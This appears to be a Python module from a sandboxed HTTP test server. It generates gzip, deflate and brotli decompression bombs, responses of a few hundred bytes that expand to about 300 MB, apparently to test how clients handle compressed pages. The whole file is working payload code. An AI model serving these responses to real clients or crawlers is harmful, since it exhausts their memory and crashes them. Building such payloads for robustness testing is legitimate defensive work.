"""Pages that are small on the wire and grow a thousand times or more when unpacked.

Formats: gzip RFC 1952, zlib RFC 1950 (what HTTP calls deflate), brotli RFC 7932.
"""

import zlib
from dataclasses import replace
from functools import lru_cache

from engine.sandbox.http import Reply, reply

BOMB_BYTES = 300 * 1024 * 1024
CHUNK_BYTES = 1024 * 1024
OPENING = b"<html><head><title>Bienvenue</title></head><body>"
BLANK = b" " * CHUNK_BYTES
CHUNKS = BOMB_BYTES // CHUNK_BYTES
BROTLI_BLOCK_BYTES = 1 << 24  # the longest meta-block


def gzip_bomb() -> Reply:
    start, chunk, end = gzip_parts()
    return _bomb("gzip", start, chunk, end)


def deflate_bomb() -> Reply:
    start, chunk, end = deflate_parts()
    return _bomb("deflate", start, chunk, end)


def brotli_bomb() -> Reply:
    return reply(200, brotli_stream(), headers=(("Content-Encoding", "br"),))


def _bomb(encoding: str, start: bytes, chunk: bytes, end: bytes) -> Reply:
    length = len(start) + len(chunk) * CHUNKS + len(end)
    answer = reply(200, start, headers=(("Content-Encoding", encoding),), length=length)
    return replace(answer, chunk=chunk, chunks=CHUNKS, end=end)


@lru_cache(maxsize=1)
def gzip_parts() -> tuple[bytes, bytes, bytes]:
    """(start, chunk to repeat, end) of a valid gzip stream."""
    start, chunk, end = _deflated()
    checksum = zlib.crc32(OPENING)
    for _ in range(CHUNKS):
        checksum = zlib.crc32(BLANK, checksum)
    size = (len(OPENING) + BOMB_BYTES) & 0xFFFFFFFF
    tail = checksum.to_bytes(4, "little") + size.to_bytes(4, "little")
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + start, chunk, end + tail


@lru_cache(maxsize=1)
def deflate_parts() -> tuple[bytes, bytes, bytes]:
    """(start, chunk to repeat, end) of a valid zlib stream."""
    start, chunk, end = _deflated()
    checksum = zlib.adler32(OPENING)
    for _ in range(CHUNKS):
        checksum = zlib.adler32(BLANK, checksum)
    return b"\x78\xda" + start, chunk, end + checksum.to_bytes(4, "big")


def _deflated() -> tuple[bytes, bytes, bytes]:
    """A full flush makes the packed megabyte of spaces independent of what precedes, so it can be repeated."""
    machine = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = machine.compress(OPENING) + machine.flush(zlib.Z_FULL_FLUSH)
    chunk = machine.compress(BLANK) + machine.flush(zlib.Z_FULL_FLUSH)
    return start, chunk, machine.flush(zlib.Z_FINISH)


@lru_cache(maxsize=1)
def brotli_stream() -> bytes:
    """A valid brotli stream of 278 bytes: the opening, then blocks that are each one copy of the four spaces before."""
    opening = OPENING + b"    "
    bits = _Bits()
    bits.put(0b1111, 4)  # a window of 16 MB
    bits.put(0, 1 + 2)  # not the last block; its length has four nibbles
    bits.put(len(opening) - 1, 16)
    bits.put(1, 1)  # stored as it is
    bits.align()
    bits.put(int.from_bytes(opening, "little"), 8 * len(opening))
    for _ in range(BOMB_BYTES // BROTLI_BLOCK_BYTES + 1):
        _put_copy_block(bits)
    bits.put(0b11, 2)  # the last block, an empty one
    return bits.packed()


def _put_copy_block(bits: "_Bits") -> None:
    """A block of one command, whose three alphabets have one symbol each: symbols then cost no bits."""
    bits.put(0, 1)
    bits.put(2, 2)  # six nibbles of length
    bits.put(BROTLI_BLOCK_BYTES - 1, 24)
    bits.put(0, 1 + 3 + 6 + 2 + 2)  # compressed; one block type of each sort, no direct distances, one tree each
    for symbol, width in ((ord(" "), 8), (391, 10), (0, 6)):  # literal; insert 0 and copy by 24 bits; last distance
        bits.put(1, 2)
        bits.put(0, 2)
        bits.put(symbol, width)
    bits.put(BROTLI_BLOCK_BYTES - 2_118, 24)  # copy lengths of 24 extra bits begin at 2,118


class _Bits:
    """A number that grows at its upper end, least significant bit first, as brotli writes."""

    def __init__(self) -> None:
        self._value = 0
        self._width = 0

    def put(self, value: int, width: int) -> None:
        self._value |= value << self._width
        self._width += width

    def align(self) -> None:
        self._width = -(-self._width // 8) * 8

    def packed(self) -> bytes:
        return self._value.to_bytes(-(-self._width // 8), "little")
